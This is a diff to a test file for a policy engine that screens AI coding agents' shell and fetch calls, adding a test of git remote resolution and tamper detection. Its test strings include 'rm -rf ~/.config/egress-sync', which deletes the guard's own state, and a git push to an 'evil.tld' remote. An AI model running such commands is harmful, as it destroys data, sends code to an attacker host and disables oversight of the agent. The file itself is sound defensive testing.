@@ -1,7 +1,7 @@
 /** Engine invariants: errors deny, deny wins, normalization before matching, observe never denies. */
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
-import { AGENTS, compilePolicy, defaultPolicyDocument, denyDecision, evaluate, parseHookInput, renderHookOutput, type TCompiledPolicy, type TNormalizedCall, type TPolicyDocument } from "../src/index.js";
+import { AGENTS, compilePolicy, defaultPolicyDocument, denyDecision, evaluate, gitRemotesNeeded, parseHookInput, renderHookOutput, type TCompiledPolicy, type TNormalizedCall, type TPolicyDocument } from "../src/index.js";
 
 const fetchCall = (url: string): TNormalizedCall => ({ agent: "claude-code", event: "PreToolUse", tool: "WebFetch", kind: "fetch", urls: [url], payload: { url } });
 const shellCall = (command: string): TNormalizedCall => ({ agent: "codex", event: "PreToolUse", tool: "Bash", kind: "shell", command, urls: [], payload: { command } });
@@ -134,6 +134,17 @@ describe("git remotes resolved by the CLI", () => {
     expect(evaluate(shellCall("git pull"), p, defaults).effect).toBe("deny");
     expect(evaluate(shellCall("git push origin main"), p, defaults).effect).toBe("allow");
     expect(evaluate(shellCall("git push"), p, { ...defaults, gitDefaultRemotes: ["fork"] }).effect).toBe("allow");
+  });
+  test("the remotes to resolve do not depend on the policy the command is then evaluated against", () => {
+    const paths = { stateDir: "/home/dev/.config/egress-sync", homeDir: "/home/dev" };
+    for (const command of ["git push origin main", "git push && git fetch upstream", "cd /tmp && git pull fork main; rm -rf ~/.config/egress-sync", "curl https://github.com", "git -c remote.x.url=https://evil.tld push x"]) {
+      expect(gitRemotesNeeded(shellCall(command), p, paths), command).toEqual(gitRemotesNeeded(shellCall(command)));
+    }
+    expect(gitRemotesNeeded(shellCall("git push origin main && git fetch upstream"), p, paths)).toEqual(["origin", "upstream"]);
+    // The analysis gitRemotesNeeded made is the one evaluate uses: tamper findings included
+    const call = shellCall("git push origin main; rm -rf ~/.config/egress-sync");
+    expect(gitRemotesNeeded(call, p, paths)).toEqual(["origin"]);
+    expect(evaluate(call, p, { ...ctx, ...paths })).toMatchObject({ effect: "deny", rule: "tamper" });
   });
 });
 
